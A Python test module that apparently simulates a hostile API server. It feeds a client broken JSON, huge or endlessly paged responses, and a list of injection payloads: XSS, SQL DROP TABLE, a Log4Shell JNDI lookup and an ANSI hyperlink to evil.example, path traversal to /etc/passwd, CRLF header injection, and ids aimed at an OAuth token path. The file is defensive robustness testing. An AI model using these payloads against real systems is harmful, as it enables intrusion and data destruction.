"""Misbehaviours inside the JSON: what cannot be read, what is no record, pages without an end, words that attack."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable
from typing import Any

from tests.hostile.desk import Asked, Reply
from tests.hostile.plant import Plant
from tests.hostile.switches import Hook, Made, Misbehaviour, at, records_changed

ATTACKS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</style><style>*{display:none}</style>",
    "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x9b31m",
    "safe\u202egnp.exe\u2066\u200b\ufeff",
    "../../../../etc/passwd\0.json",
    "'; DROP TABLE work_orders; -- \" ${jndi:ldap://evil.example} {{7*7}} %s%n",
    "[link](javascript:alert(1)) \r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
    "\ud800 lone \U000e0041 " + "Z" + "\u0301" * 300,
)


def body(data: bytes, kind: str = "application/json") -> Hook:
    """Every read of the API is answered with these bytes."""
    return at("api", Reply(200, data, {"Content-Type": kind}))


def page(data: str) -> Hook:
    """Every page holds these records, written as JSON."""
    return body(b'{"data": ' + data.encode("utf-8", "surrogatepass") + b', "total": 3}')


def ids(*values: Any) -> Made:
    """Records with these ids."""

    def change(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
        for record, value in zip(shown["data"], itertools.cycle(values), strict=False):
            record["id"] = value

    return records_changed(change)


def every_word(text: Callable[[int], Any]) -> Made:
    """Records in which every value is another."""
    numbers = itertools.count()

    def change(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
        for record in shown["data"]:
            record |= {name: text(next(numbers)) for name in record if name != "id"}
            record |= {str(text(next(numbers))): 1}

    return records_changed(change)


def same_page_for_ever(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
    """Whatever page is asked for, it is the first, and there is another."""
    first = list(plant.records[asked.path.split("/")[2]].values())[:10]
    shown |= {"data": first, "next": plant.url + asked.target, "total": 10_000}


def longer_cursors(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
    """The same page again, under an address that grows."""
    cursor = asked.query.get("cursor", "c") * 2
    shown["next"] = f"{plant.url}{asked.path}?cursor={cursor[:100_000]}"
    shown["data"] = list(plant.records[asked.path.split("/")[2]].values())[:10]


def new_records_for_ever(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
    """Each page has records never seen before, and a next one."""
    shown["data"] = [{"id": f"n{next(plant.calls)}", "name": "new", "title": "new"} for _ in range(10)]
    shown["next"] = f"{plant.url}{asked.path}?page={next(plant.calls)}"


def empty_pages_for_ever(plant: Plant, asked: Asked, shown: dict[str, Any]) -> None:
    """No record on any page, and always a next one."""
    shown |= {"data": [], "next": f"{plant.url}{asked.path}?page={next(plant.calls)}", "total": 77}


def html_for_everything(plant: Plant, asked: Asked) -> Reply | None:
    return Reply(200, b"<html><form><input type=password></form></html>", {"Content-Type": "text/html"})


def attacking_refusals(plant: Plant, asked: Asked) -> Reply:
    """Refusals whose every word attacks."""
    reply = plant.answer(asked)
    if reply.status >= 400:
        words = {"code": ATTACKS[2], "title": ATTACKS[0], "detail": list(ATTACKS), ATTACKS[0]: ATTACKS[1]}
        reply.body = json.dumps({"errors": [words], "error": words, **words}).encode()
        reply.headers |= {"X-Error": ATTACKS[0], "Warning": "\x1b[31m", "Content-Type": ATTACKS[0]}
    return reply


def attacking_headers(plant: Plant, asked: Asked) -> Reply:
    """Headers that an auditor reads, full of nonsense."""
    reply = plant.answer(asked)
    odd = {
        "ETag": "W/\x1b[2J<b>",
        "Allow": "GET, TRACE, <script>",
        "Sunset": "yesterday",
        "Deprecation": "@" + "9" * 400,
    }
    links = '<javascript:alert(1)>; rel="next", <\x1b>; rel=deprecation, ' + "<a>;" * 2000
    reply.headers |= {**odd, "Link": links, "Content-Type": "application/json; charset=\x1bzip; " + "a=b;" * 500}
    return reply


CONTENTS = (
    Misbehaviour("not-json", "a page instead of JSON", at("api", html_for_everything), proves_nothing=True),
    Misbehaviour("broken-json", "JSON that stops", body(b'{"data": [{"id": "1", "na'), proves_nothing=True),
    Misbehaviour("not-utf-8", "bytes that are no letters", body(b'{"data": [{"id": "\xff\xfe\xc0\xaf"}]}')),
    Misbehaviour("nul-bytes", "NUL bytes throughout", body(b'{"data":\0 [{"id": "\0\0\\u0000"}]}\0\0')),
    Misbehaviour("deep-objects", "records 20,000 deep", page('{"a":' * 20_000 + "1" + "}" * 20_000)),
    Misbehaviour(
        "million-keys",
        "a record of a million members",
        page("[{" + ",".join(f'"k{n}":1' for n in range(600_000)) + "}]"),
    ),
    Misbehaviour(
        "million-records", "a page of half a million records", page("[" + ",".join(['{"id":1}'] * 500_000) + "]")
    ),
    Misbehaviour(
        "duplicate-keys", "each member twice", page('[{"id": "1", "id": "2", "id": null, "name": 1, "name": 2}]')
    ),
    Misbehaviour(
        "huge-numbers", "numbers beyond all bounds", page(f'[{{"id": {"9" * 5000}, "x": 1e999, "y": -1e-999}}]')
    ),
    Misbehaviour("not-a-number", "NaN and Infinity", page('[{"id": NaN, "x": Infinity, "y": -Infinity}]')),
    Misbehaviour("scalars-for-records", "words, numbers, nothing", page('["a", 1, null, true, [], [[1]], 1.5, ""]')),
    Misbehaviour("ids-attacking", "ids with escapes, quotes, paths", at("api", ids(*ATTACKS))),
    Misbehaviour(
        "ids-of-paths",
        "ids that lead elsewhere",
        at("api", ids("..", "../../oauth/token", "//x", "?", "#", "%2e%2e", "a/b;c")),
    ),
    Misbehaviour(
        "ids-of-any-kind",
        "ids that are no ids",
        at("api", ids(None, True, 1.5, [1], {"a": 1}, "", "x" * 70_000, 10**30)),
    ),
    Misbehaviour(
        "words-attacking",
        "HTML, ANSI and more in every word",
        at("api", every_word(lambda n: ATTACKS[n % len(ATTACKS)])),
    ),
    Misbehaviour(
        "words-long",
        "some words 50,000 letters long",
        at("api", every_word(lambda n: f"{n}" + "a " * (25_000 if n % 200 == 0 else 1))),
    ),
    Misbehaviour("refusals-attacking", "attacks in every refusal", at("api", attacking_refusals)),
    Misbehaviour("headers-attacking", "nonsense in headers", at("api", attacking_headers)),
    Misbehaviour("pages-same", "the same page for ever", at("api", records_changed(same_page_for_ever))),
    Misbehaviour("pages-growing", "a cursor that doubles", at("api", records_changed(longer_cursors))),
    Misbehaviour("pages-endless", "new records for ever", at("api", records_changed(new_records_for_ever))),
    Misbehaviour("pages-empty", "empty pages for ever", at("api", records_changed(empty_pages_for_ever))),
)
